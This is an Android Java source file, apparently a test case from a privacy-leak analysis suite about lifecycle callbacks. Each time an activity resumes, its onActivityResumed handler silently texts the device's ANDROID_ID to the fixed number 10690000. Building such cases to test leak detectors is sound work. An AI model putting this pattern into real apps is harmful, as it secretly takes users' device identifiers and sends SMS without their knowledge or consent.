package cn.privlens.suite.lifecycle_callbacks;

import android.app.Activity;
import android.app.Application;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;

public class App extends Application implements Application.ActivityLifecycleCallbacks {
    @Override
    public void onCreate() {
        super.onCreate();
        registerActivityLifecycleCallbacks(this);
    }
    @Override
    public void onActivityResumed(Activity a) { SmsManager.getDefault().sendTextMessage("10690000", null, Settings.Secure.getString(a.getContentResolver(), Settings.Secure.ANDROID_ID), null, null); }
    @Override
    public void onActivityCreated(Activity a, Bundle b) {}
    @Override
    public void onActivityStarted(Activity a) {}
    @Override
    public void onActivityPaused(Activity a) {}
    @Override
    public void onActivityStopped(Activity a) {}
    @Override
    public void onActivitySaveInstanceState(Activity a, Bundle b) {}
    @Override
    public void onActivityDestroyed(Activity a) {}
}
